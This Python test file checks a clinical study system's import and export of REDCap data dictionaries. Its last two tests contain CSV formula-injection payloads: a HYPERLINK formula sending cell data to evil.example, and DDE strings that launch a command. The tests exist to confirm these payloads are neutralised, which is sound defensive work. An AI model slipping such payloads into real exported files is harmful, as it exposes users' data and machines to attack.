"""REDCap data dictionaries in and out: every shared dictionary converts, loads and comes back with
the same meaning; awkward files load; what cannot be represented is reported by line and column."""

from __future__ import annotations

import pytest

from capture.definitions import services
from capture.definitions.converters import Conversion, redcap
from capture.definitions.models import DataElement, FormDefinition, Schedule
from capture.studies.models import Study

from .conftest import OWN, REDCAP, dictionary_kwargs, redcap_dictionaries, shared

HEADER = ",".join(f'"{ui}"' for _, ui in redcap.COLUMNS)


def _convert(text: str | bytes, project: str = "demo", **kwargs) -> Conversion:
    return redcap.read_dictionary(text, project=project, source="upload.csv", **kwargs)


def _without_record_id(meaning: list[tuple]) -> list[tuple]:
    """The record id field is the subject id, not an item: only its name and instrument come back
    (labelled "Record ID"); its section header moves to the next field."""
    first, rest = meaning[0], [list(row) for row in meaning[1:]]
    if first[2] and rest and not rest[0][2]:
        rest[0][2] = first[2]
    return [first[:2]] + [tuple(row) for row in rest]


def _meaning(text: str) -> list[tuple]:
    """Every field of a dictionary as what it means, ignoring spelling REDCap itself treats as equal."""
    conversion = Conversion(source="x", kind="redcap")
    rows = redcap.read_rows(redcap.decode(text, conversion), conversion)
    out = []
    for row in rows:
        field_type = {"select": "dropdown", "textarea": "notes"}.get(
            row.get("field_type").strip(), row.get("field_type").strip()
        )
        choices = row.get("select_choices_or_calculations").strip()
        if field_type in ("dropdown", "radio", "checkbox"):
            choices = tuple(redcap.parse_choices(choices))
        elif field_type == "slider":
            choices = tuple(p.strip() for p in choices.split("|")) if choices else ()
        validation = {"int": "integer", "float": "number"}.get(
            row.get("text_validation_type_or_show_slider_number").strip(),
            row.get("text_validation_type_or_show_slider_number").strip(),
        )

        def number(value: str) -> str:
            try:
                return repr(float(value))
            except ValueError:
                return value.strip()

        out.append(
            (
                row.get("field_name").strip(),
                row.get("form_name").strip(),
                row.get("section_header").strip(),
                field_type,
                row.get("field_label").strip(),
                choices,
                row.get("field_note").strip(),
                validation,
                number(row.get("text_validation_min")),
                number(row.get("text_validation_max")),
                row.get("identifier").strip().lower() == "y",
                row.get("branching_logic").strip(),
                row.get("required_field").strip().lower() == "y",
                row.get("custom_alignment").strip(),
                row.get("question_number").strip(),
                row.get("matrix_group_name").strip(),
                row.get("matrix_ranking").strip().lower() == "y",
                row.get("field_annotation").strip(),
            )
        )
    return out


@pytest.mark.parametrize("name", redcap_dictionaries() or ["(none)"])
def test_every_shared_dictionary_makes_a_study_and_comes_back_with_the_same_meaning(db, name, make_user):
    path = shared(REDCAP / name)
    conversion = _convert(path.read_bytes(), project="rt", **dictionary_kwargs(name))
    assert conversion.errors == [], [str(p) for p in conversion.errors]
    study, _ = services.create_study_from_conversion(
        actor=make_user("boss", is_staff=True), conversion=conversion, slug="rt", name="Round trip"
    )
    exported, schedule_files, _ = services.export_redcap_dictionary(actor=None, study=study)
    assert _without_record_id(_meaning(exported)) == _without_record_id(
        _meaning(path.read_text(encoding="utf-8-sig"))
    )
    again = _convert(
        exported,
        project="rt2",
        **(
            {
                "arms": schedule_files["arms"].encode(),
                "events": schedule_files["events"].encode(),
                "mapping": schedule_files["mapping"].encode(),
            }
            if "longitudinal" in name
            else {}
        ),
    )
    assert again.errors == [], [str(p) for p in again.errors]
    _, odm_problems = services.export_odm(actor=None, study=study)
    assert odm_problems == [], "the study's ODM export must validate against the ODM 1.3.2 schema"


def test_validation_types_map_to_datatypes_and_keep_their_names(db):
    conversion = _convert(shared(REDCAP / "redcapr_validation_types_dictionary.csv").read_bytes())
    by_name = {e.name: e for e in conversion.elements}
    assert (by_name["v_date_dmy"].datatype, by_name["v_date_dmy"].display_format) == ("date", "dmy")
    assert (by_name["v_datetime_seconds_mdy"].datatype, by_name["v_datetime_seconds_mdy"].display_format) == (
        "datetime",
        "mdy",
    )
    assert by_name["v_integer"].datatype == "integer"
    assert (
        by_name["v_number_2dp_comma_decimal"].datatype,
        by_name["v_number_2dp_comma_decimal"].decimal_places,
    ) == (
        "decimal",
        2,
    )
    assert by_name["v_number_comma_decimal"].validation == "number_comma_decimal"
    assert (by_name["v_email"].datatype, by_name["v_email"].validation) == ("text", "email")
    assert (by_name["v_zipcode"].datatype, by_name["v_zipcode"].validation) == ("text", "zipcode")
    assert by_name["v_time_hh_mm"].datatype == "time"
    assert by_name["v_time_mm_ss"].datatype == "text", "MM:SS is a duration, not a time of day"
    assert by_name["f_true_false"].datatype == "boolean"
    assert [(p.code, p.meaning) for p in by_name["f_true_false"].permissible_values] == [
        ("1", "True"),
        ("0", "False"),
    ]
    assert (by_name["f_signature"].datatype, by_name["f_signature"].validation) == ("file", "signature")
    slider = next(
        i for s in conversion.forms[0].sections for i in s.items if i.element.endswith(".f_slider@1.0")
    )
    assert slider.widget == "slider" and slider.slider_labels == ["-1", "50", "101"]
    assert (by_name["f_slider"].min, by_name["f_slider"].max) == (-1, 101)


def test_a_sql_field_is_reported_with_line_and_column_and_kept_for_export(db):
    conversion = _convert(shared(REDCAP / "redcapr_validation_types_dictionary.csv").read_bytes())
    sql = [p for p in conversion.warnings if "'f_sql'" in str(p)]
    assert len(sql) == 1 and sql[0].line == 12 and sql[0].column.startswith("D (Field Type")
    assert "Fix:" in sql[0].message
    item = next(i for s in conversion.forms[0].sections for i in s.items if i.element.endswith(".f_sql@1.0"))
    assert item.query == "SELECT 1 as one;"


def test_branching_calculations_matrix_sections_identifiers_and_annotations_are_kept(db):
    conversion = _convert(shared(REDCAP / "hypotheses_ICBS_TumorBank_DataDictionary.csv").read_bytes())
    assert conversion.errors == []
    items = {
        i.element.split("@")[0].split(".")[-1]: i
        for f in conversion.forms
        for s in f.sections
        for i in s.items
        if hasattr(i, "element")
    }
    assert items["days_to_consent"].calculation == 'datediff([index_date],[consent_date],"d","dmy","true")'
    assert items["days_to_consent"].annotation == "@HIDDEN"
    assert items["breast_age"].branching == "[germline_cancer(1)] = '1'"
    assert items["gender"].required
    assert items["participant_id"].field_note == "[S][I]-[_][_][_][_][_][_]"
    assert "\n" in next(e for e in conversion.elements if e.name == "participant_id").question, (
        "multi-line label"
    )
    icd = next(e for e in conversion.elements if e.name == "icd10")
    assert icd.ontology == "BIOPORTAL:ICD-10"
    gender = next(e for e in conversion.elements if e.name == "gender")
    assert [p.code for p in gender.permissible_values] == ["0", "1", "-9", "-99"]

    long = _convert(
        shared(REDCAP / "redcapr_longitudinal_dictionary.csv").read_bytes(),
        **dictionary_kwargs("longitudinal"),
    )
    demographics = next(f for f in long.forms if f.instrument == "demographics")
    matrix = [e for s in demographics.sections for e in s.items if getattr(e, "matrix", False)]
    assert [m.group for m in matrix] == ["weekly_schedule"] and len(matrix[0].items) == 4
    # The record id (study_id) is the subject id, not an item: the first section starts at its header.
    assert [s.title for s in demographics.sections][:2] == [
        "Consent Information",
        "Contact Information",
    ]
    assert demographics.sections[0].header is True
    first_name = next(e for e in long.elements if e.name == "first_name")
    assert first_name.identifier and first_name.public_id == "capture.redcap.demo.first_name"


def test_a_longitudinal_project_becomes_a_schedule_with_arms_events_and_mapping(db):
    conversion = _convert(
        shared(REDCAP / "redcapr_longitudinal_dictionary.csv").read_bytes(),
        **dictionary_kwargs("longitudinal"),
    )
    assert conversion.errors == []
    schedule = conversion.schedule
    assert [(a.name, a.title) for a in schedule.arms] == [("arm_1", "Drug A"), ("arm_2", "Drug B")]
    visit = next(e for e in schedule.arms[0].events if e.name == "visit_1")
    assert [f.form for f in visit.forms] == [
        "demo_visit_lab_data@1.0",
        "demo_patient_morale_questionnaire@1.0",
        "demo_visit_blood_workup@1.0",
        "demo_visit_observed_behavior@1.0",
    ]


def test_bom_curly_quotes_multiline_labels_and_trailing_blank_lines_load(db):
    text = (
        "\ufeff"
        + HEADER
        + "\n"
        + 'record_id,enrol,,text,"Record ID",,,,,,,,,,,,,\n'
        + 'smoker,enrol,,yesno,"Do you smoke?\nAnswer \u201cno\u201d if you quit.",,,,,,,,,,,,,\n'
        + "packs,enrol,,text,Packs a day,,,number,0,10,,[smoker] = \u201c1\u201d,,,,,,\n"
        + "\n\n"
    ).encode("utf-8")
    conversion = _convert(text)
    assert conversion.errors == []
    assert [e.name for e in conversion.elements] == ["smoker", "packs"]  # record_id is the subject id
    assert conversion.record_id_field == "record_id"
    assert conversion.elements[0].question == "Do you smoke?\nAnswer \u201cno\u201d if you quit."
    packs = conversion.forms[0].sections[0].items[1]
    assert packs.branching == '[smoker] = "1"'
    assert any(p.line == 5 and "curly quotes" in p.message for p in conversion.warnings)


def test_own_fixture_with_bom_and_windows_line_ends_loads(db):
    conversion = _convert((OWN / "redcap" / "awkward_dictionary.csv").read_bytes())
    assert conversion.errors == [], [str(p) for p in conversion.errors]
    assert len(conversion.elements) == 4  # and the record id, the subject id


def test_a_literal_na_from_r_is_read_as_empty(db):
    conversion = _convert(shared(REDCAP / "redcapr_simple_metadata_api.csv").read_bytes())
    assert conversion.errors == []
    assert any("NA" in p.message for p in conversion.warnings)
    assert not any(e.validation == "NA" for e in conversion.elements)
    age = next(
        i for f in conversion.forms for s in f.sections for i in s.items if i.element.endswith(".age@1.0")
    )
    assert age.calculation == "rounddown(datediff([dob],'today','y'))"


@pytest.mark.parametrize(
    ("row", "column", "words"),
    [
        ("bad name,f,,text,Label,,,,,,,,,,,,,", "A (Variable / Field Name)", "lower case"),
        ("x,f,,radiobutton,Label,,,,,,,,,,,,,", "D (Field Type)", "not a REDCap field type"),
        ("x,f,,radio,Label,1 A | 2 B,,,,,,,,,,,,", "F (Choices", "not 'code, label'"),
        ('x,f,,radio,Label,"1, A | 1, B",,,,,,,,,,,,', "F (Choices", "codes repeat"),
        ("x,f,,text,Label,,,integer,low,,,,,,,,,", "I (Text Validation Min)", "not a number"),
        ("x,f,,text,Label,,,,,,maybe,,,,,,,", "K (Identifier?)", "not y or empty"),
        ("x,f,,text,Label,,,,,,,,,XX,,,,", "N (Custom Alignment)", "not an alignment"),
        ("x,f,,calc,Label,,,,,,,,,,,,,", "F (Choices", "needs its calculation"),
    ],
)
def test_a_bad_cell_is_an_error_naming_line_column_and_fix(db, row, column, words):
    text = HEADER + "\nrecord_id,f,,text,ID,,,,,,,,,,,,,\n" + row + "\n"
    conversion = _convert(text)
    assert conversion.errors, "the bad cell must be reported"
    problem = conversion.errors[0]
    assert problem.line == 3 and problem.column.startswith(column), str(problem)
    assert words in problem.message and "Fix:" in problem.message


def test_a_duplicate_field_and_a_scattered_instrument_are_errors(db):
    text = (
        HEADER
        + "\nrecord_id,f,,text,ID,,,,,,,,,,,,,\na,f,,text,A,,,,,,,,,,,,,\nb,g,,text,B,,,,,,,,,,,,,"
        + "\na,f,,text,A again,,,,,,,,,,,,,\nc,f,,text,C,,,,,,,,,,,,,\n"
    )
    messages = [str(p) for p in _convert(text).errors]
    assert any("line 5" in m and "defined again (first on line 3)" in m for m in messages)
    assert any("line 6" in m and "not together" in m for m in messages)


def test_a_relative_date_limit_is_reported_not_silently_dropped(db):
    text = HEADER + "\nrecord_id,f,,text,ID,,,,,,,,,,,,,\nvisit,f,,text,Visit,,,date_ymd,,today,,,,,,,,\n"
    conversion = _convert(text)
    assert conversion.errors == []
    assert any(p.line == 3 and p.column.startswith("J") and "today" in p.message for p in conversion.warnings)


def test_a_file_that_is_not_a_dictionary_says_so(db):
    conversion = _convert("name,age\nAda,36\n")
    assert conversion.errors and "Fix:" in conversion.errors[-1].message


def test_any_capture_study_exports_a_dictionary_redcap_would_accept(db, study):
    text, schedule_files, problems = services.export_redcap_dictionary(actor=None, study=study)
    conversion = _convert(text, project="back")
    assert conversion.errors == [], [str(p) for p in conversion.errors]
    rows = _meaning(text)
    assert rows[0][0] == "record_id", "REDCap's first field is the record id"
    by_name = {r[0]: r for r in rows}
    assert by_name["sex"][3] == "radio" and by_name["sex"][5] == (("1", "Female"), ("2", "Male"))
    assert by_name["age"][7:10] == ("integer", "0.0", "120.0")
    assert by_name["weight"][7] == "number_1dp" and by_name["weight"][6] == "kg"
    assert by_name["symptoms"][3] == "checkbox"
    assert by_name["er_status"][15] == "receptors", "a matrix group stays a matrix"
    assert by_name["er_status"][3] == "radio", "REDCap matrices hold radio buttons or checkboxes"
    assert by_name["lesion_site"][1] == "lesions_target_lesions", (
        "a repeating group becomes its own instrument"
    )
    assert any("repeating" in p.message for p in problems)
    assert "mapping" in schedule_files and "lesions_target_lesions" not in schedule_files["mapping"]


def test_creating_a_study_loads_forms_elements_schedule_and_audits(db, make_user):
    from capture.audit.models import AuditEvent

    conversion = _convert(shared(REDCAP / "redcapr_simple_dictionary.csv").read_bytes(), project="simple")
    study, result = services.create_study_from_conversion(
        actor=make_user("boss", is_staff=True), conversion=conversion, slug="simple", name="Simple"
    )
    assert study.schedule.ref == "simple@1.0"
    assert FormDefinition.objects.filter(name__startswith="simple_").count() == 3
    # 15 fields and the record id, which is the subject id (study.record_id_field), not an element
    assert DataElement.objects.filter(public_id__startswith="capture.redcap.simple.").count() == 15
    assert study.record_id_field == "record_id"
    assert AuditEvent.objects.filter(action="definitions.import", study=study).exists()
    assert AuditEvent.objects.filter(action="definitions.load").exists()


def test_staff_only_may_create_a_study(db, make_user):
    from django.core.exceptions import PermissionDenied

    conversion = _convert(shared(REDCAP / "redcapr_simple_dictionary.csv").read_bytes(), project="simple")
    with pytest.raises(PermissionDenied):
        services.create_study_from_conversion(
            actor=make_user("nobody"), conversion=conversion, slug="s", name="S"
        )
    assert not Study.objects.filter(slug="s").exists()
    assert not Schedule.objects.filter(name="simple").exists()


def test_an_expression_reading_an_undefined_field_is_reported_with_its_cell(db):
    text = HEADER + "\nrecord_id,f,,text,ID,,,,,,,,,,,,,\nx,f,,text,X,,,,,,,[smokr] = '1',,,,,,\n"
    conversion = _convert(text)
    (problem,) = [p for p in conversion.warnings if "smokr" in p.message]
    assert problem.line == 3 and problem.column.startswith("L (Branching Logic") and "Fix:" in problem.message


def test_codes_redcap_would_refuse_are_numbered_and_the_mapping_reported():
    from capture.definitions.schema import DataElement, FormFile

    element = DataElement(
        public_id="capture.test_status",
        version="1.0",
        name="status",
        long_name="Status",
        question="Status",
        datatype="text",
        permissible_values=[
            {"code": "Not Reported", "meaning": "Not reported"},
            {"code": "Alive", "meaning": "A|B"},
        ],
    )
    form = FormFile(
        form="f", version="1.0", title="F", sections=[{"title": "S", "items": [{"element": element.ref}]}]
    )
    text, problems = redcap.write_dictionary([form], {element.ref: element})
    rows = _meaning(text)
    assert rows[1][5] == (("1", "Not reported"), ("2", "A/B"))
    assert any("1=Not Reported" in p.message for p in problems)


def test_repeating_instruments_are_named_on_upload_and_unknown_ones_refused(db):
    data = shared(REDCAP / "redcapr_repeating_dictionary.csv").read_bytes()
    conversion = _convert(data, repeating_forms=["bp"])
    (event,) = conversion.schedule.arms[0].events
    assert [(f.form, f.repeating) for f in event.forms] == [
        ("demo_demographics@1.0", False),
        ("demo_bp@1.0", True),
    ]
    wrong = _convert(data, repeating_forms=["blood_pressure"])
    assert wrong.errors and "blood_pressure" in wrong.errors[0].message and "Fix:" in wrong.errors[0].message


def test_a_downloaded_dictionary_never_runs_a_label_as_a_formula_and_reads_back_as_typed():
    """Files people open in Excel: = + - @ at the start of a text cell get an apostrophe; numbers
    (also "-10") stay numbers; Capture's reader takes the apostrophe off again."""
    import csv
    import io

    from capture.definitions.schema import DataElement, FormFile

    element = DataElement(
        public_id="capture.test_temp",
        version="1.0",
        name="temp",
        long_name="Temperature",
        question='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        datatype="integer",
        min=-10,
        max=50,
    )
    form = FormFile(
        form="f",
        version="1.0",
        title="F",
        sections=[
            {"title": "S", "items": [{"element": element.ref, "field_note": "@SUM(1+1)*cmd|' /C calc'!A0"}]}
        ],
    )
    text, _ = redcap.write_dictionary([form], {element.ref: element})
    header, first, temp = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(header, temp, strict=True))
    assert cells["Field Label"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert cells["Field Note"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["Text Validation Min"] == "-10" and cells["Text Validation Max"] == "50"
    back = {r[0]: r for r in _meaning(text)}["temp"]
    assert back[4] == '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert back[6] == "@SUM(1+1)*cmd|' /C calc'!A0"


def test_downloaded_schedule_files_neutralise_titles(db, study):
    import csv
    import io

    from capture.definitions.schema import ScheduleFile

    spec = dict(study.schedule.spec)
    spec["arms"] = [{**arm, "title": "-2+3+cmd|' /C calc'!A0"} for arm in spec["arms"]]
    forms, _, _ = services.study_definitions(study)
    files = redcap.write_schedule(ScheduleFile.model_validate(spec), {f.ref: f for f in forms})
    rows = list(csv.reader(io.StringIO(files["arms"])))
    assert rows[1][1] == "'-2+3+cmd|' /C calc'!A0"
    events = list(csv.reader(io.StringIO(files["events"])))
    assert all(not cell.startswith("'") for row in events for cell in row[1:]), "numbers stay numbers"
